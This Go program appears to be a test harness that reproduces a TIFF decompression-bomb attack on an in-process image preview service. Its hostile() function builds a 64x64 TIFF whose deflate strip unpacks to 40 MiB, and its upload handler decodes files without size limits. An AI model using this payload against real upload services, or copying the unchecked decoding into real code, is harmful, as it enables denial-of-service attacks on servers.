// Tiffbomb makes previews of the pictures that users upload as TIFF. Some pictures of 64 by 64
// points have compressed data for far more points. It keeps previews, 25 MiB.
package main

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"flag"
	"image"
	"image/color"
	"log"
	"sync"
	"time"

	"golang.org/x/image/tiff"
)

// album has the last previews; all places are taken from the start.
type album struct {
	mu       sync.Mutex
	previews [6400]*image.Gray
	next     int
}

func newAlbum() *album {
	a := &album{}
	for i := range a.previews {
		a.previews[i] = image.NewGray(image.Rect(0, 0, 64, 64))
		a.previews[i].Set(i%64, i/100, color.White)
	}
	return a
}

func (a *album) upload(file []byte) error {
	picture, err := tiff.Decode(bytes.NewReader(file))
	if err != nil {
		return err
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	a.next = (a.next + 1) % len(a.previews)
	for y := range 64 {
		for x := range 64 {
			a.previews[a.next].Set(x, y, picture.At(x, y))
		}
	}
	return nil
}

func good() []byte {
	picture := image.NewGray(image.Rect(0, 0, 64, 64))
	picture.Set(3, 4, color.White)
	var out bytes.Buffer
	if err := tiff.Encode(&out, picture, &tiff.Options{Compression: tiff.Deflate}); err != nil {
		log.Fatal(err)
	}
	return out.Bytes()
}

// hostile is a TIFF of 64 by 64 gray points whose only strip unpacks to size bytes.
func hostile(size int) []byte {
	var strip bytes.Buffer
	z := zlib.NewWriter(&strip)
	z.Write(make([]byte, size))
	z.Close()
	// Tag, type (3: uint16, 4: uint32), count, value; see TIFF 6.0, section 2.
	entries := [][4]uint32{
		{256, 4, 1, 64}, {257, 4, 1, 64}, {258, 3, 1, 8}, {259, 3, 1, 8}, {262, 3, 1, 1},
		{273, 4, 1, 8}, {277, 3, 1, 1}, {278, 4, 1, 64}, {279, 4, 1, uint32(strip.Len())},
	}
	out := []byte("II*\x00")
	out = binary.LittleEndian.AppendUint32(out, uint32(8+strip.Len()))
	out = append(out, strip.Bytes()...)
	out = binary.LittleEndian.AppendUint16(out, uint16(len(entries)))
	for _, e := range entries {
		out = binary.LittleEndian.AppendUint16(out, uint16(e[0]))
		out = binary.LittleEndian.AppendUint16(out, uint16(e[1]))
		out = binary.LittleEndian.AppendUint32(out, e[2])
		out = binary.LittleEndian.AppendUint32(out, e[3])
	}
	return append(out, 0, 0, 0, 0)
}

func (a *album) user(file []byte, every time.Duration, end time.Time) {
	for time.Now().Before(end) {
		if err := a.upload(file); err != nil {
			log.Print(err)
			return
		}
		time.Sleep(every)
	}
}

func main() {
	last := flag.Duration("for", 25*time.Second, "how long the load lasts")
	flag.Parse()
	a := newAlbum()
	end := time.Now().Add(*last)
	small, large := good(), hostile(40<<20)
	var users sync.WaitGroup
	for range 3 {
		users.Go(func() { a.user(small, 2*time.Millisecond, end) })
	}
	for range 2 {
		users.Go(func() { a.user(large, 500*time.Millisecond, end) })
	}
	users.Wait()
}
